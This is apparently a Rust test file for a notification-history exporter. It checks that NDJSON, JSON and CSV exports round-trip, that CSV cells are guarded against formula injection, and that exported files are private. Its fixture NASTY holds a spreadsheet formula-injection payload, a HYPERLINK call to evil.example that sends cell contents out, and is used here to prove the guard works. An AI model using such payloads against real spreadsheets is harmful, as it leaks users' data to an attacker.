//! Exports read back by readers of their own, and what a spreadsheet must never calculate.

use super::*;
use crate::history::{OfMailbox, Opener, PageWrite};
use campanile_core::event::finish;
use campanile_core::facts::names;
use campanile_core::types::WarnAt;
use campanile_core::words::Language;
use campanile_core::{Facts, NotificationType};
use jiff::Timestamp;
use jiff::tz::TimeZone;

const NASTY: &str = "=HYPERLINK(\"http://evil.example/?\"&A1)";

/// A history with so many notifications, each with a name that is a formula.
async fn filled(count: i64) -> (tempfile::TempDir, History) {
    let folder = tempfile::tempdir().unwrap();
    let history = History::open(&folder.path().join("history.db"), Opener::Owner).unwrap();
    let drafts = (0..count).map(|number| {
        let facts = Facts::default().with(names::CAMPAIGN_ID, number).with(names::CAMPAIGN_NAME, NASTY);
        let at = Timestamp::from_second(1_795_000_000 + number).unwrap();
        let raw = format!("{{\"é\": \"line\none, \\\"two\\\"\", \"number\": {number}}}");
        let kind = NotificationType::CampaignFailure;
        let draft =
            finish(format!("e{number}"), "1".into(), kind, NASTY.into(), at, facts, &raw, WarnAt::default());
        (draft, "words".to_owned(), number % 2 == 0)
    });
    let page = PageWrite {
        connection: "prod".into(),
        kind: "adobe-journal",
        origin: String::new(),
        drafts: drafts.collect(),
        position: None,
        caught_up: false,
        from_relay: Vec::new(),
        of_mailbox: OfMailbox::default(),
        received_at: Timestamp::from_second(1_795_100_000).unwrap(),
    };
    history.store_page(page).await.unwrap();
    (folder, history)
}

async fn exported(history: &History, format: Format) -> String {
    let voice = Voice::new(Language::En, TimeZone::UTC);
    let mut out = Vec::new();
    let count = export(history, &Filter::default(), &voice, format, &mut out).await.unwrap();
    assert_eq!(count, usize::try_from(history.counts().await.unwrap().total).unwrap());
    String::from_utf8(out).unwrap()
}

/// A reader of RFC 4180, written from its text.
fn table(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {
                assert_eq!(letters.next(), Some('\n'));
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            _ => cell.push(letter),
        }
    }
    assert!(!quoted && cell.is_empty() && row.is_empty());
    rows
}

#[tokio::test]
async fn every_form_holds_everything_newest_first() {
    let (_folder, history) = filled(1203).await;
    let lines: Vec<NotificationJson> = exported(&history, Format::Ndjson)
        .await
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(lines.len(), 1203);
    assert!(lines.is_sorted_by(|one, next| one.occurred_at > next.occurred_at));

    let array: Vec<NotificationJson> = serde_json::from_str(&exported(&history, Format::Json).await).unwrap();
    assert_eq!(array, lines);

    let table = table(&exported(&history, Format::Csv).await);
    assert_eq!(table[0], COLUMNS);
    assert_eq!(table.len(), 1204);
    let column = |name: &str| COLUMNS.iter().position(|column| *column == name).unwrap();
    for (row, line) in table[1..].iter().zip(&lines) {
        assert_eq!(row.len(), COLUMNS.len());
        assert_eq!(row[column("id")], line.id);
        assert_eq!(row[column("raw")], line.raw);
        assert_eq!(row[column("occurred_at")], line.occurred_at.to_string());
        assert_eq!(serde_json::from_str::<Facts>(&row[column("facts")]).unwrap(), line.facts);
        assert_eq!(row[column("read_at")].is_empty(), line.read_at.is_none());
    }
}

#[tokio::test]
async fn an_empty_history_is_a_sound_file_too() {
    let (_folder, history) = filled(0).await;
    assert_eq!(exported(&history, Format::Ndjson).await, "");
    assert_eq!(serde_json::from_str::<Vec<()>>(&exported(&history, Format::Json).await).unwrap(), []);
    assert_eq!(table(&exported(&history, Format::Csv).await).len(), 1);
}

#[tokio::test]
async fn no_cell_begins_a_formula() {
    let (_folder, history) = filled(3).await;
    let text = exported(&history, Format::Csv).await;
    assert!(text.contains("HYPERLINK"));
    for cell in table(&text).into_iter().flatten() {
        assert!(!cell.trim_start().starts_with(['=', '+', '-', '@']), "{cell}");
    }
}

#[test]
fn cells_are_guarded_and_quoted() {
    for (text, expected) in [
        ("plain", "plain"),
        ("", ""),
        ("a,b", "\"a,b\""),
        ("say \"x\"", "\"say \"\"x\"\"\""),
        ("=1+1", "\"'=1+1\""),
        ("  =1+1", "\"'  =1+1\""),
        ("+33 1", "\"'+33 1\""),
        ("-5", "\"'-5\""),
        ("@SUM(A1)", "\"'@SUM(A1)\""),
        ("\t=1", "\"'\t=1\""),
        ("\u{ff1d}1", "\"'\u{ff1d}1\""),
        ("a=b", "a=b"),
        ("1;2", "\"1;2\""),
    ] {
        assert_eq!(csv_cell(text), expected, "{text}");
    }
}

#[tokio::test]
async fn a_file_is_its_users_alone_and_says_what_it_is_to_people_only() {
    use std::os::unix::fs::PermissionsExt;
    let (folder, history) = filled(2).await;
    let voice = Voice::new(Language::En, TimeZone::UTC);
    let file = folder.path().join("out.csv");
    for (for_people, begins) in [(true, "\u{feff}id,source_id,"), (false, "id,source_id,")] {
        assert_eq!(export_file(&history, &voice, Format::Csv, for_people, &file).await.unwrap(), 2);
        assert!(std::fs::read_to_string(&file).unwrap().starts_with(begins));
    }
    assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    let nowhere = folder.path().join("missing/out.csv");
    let error = export_file(&history, &voice, Format::Csv, true, &nowhere).await.unwrap_err();
    assert!(matches!(error, ExportError::Write(_)));
}
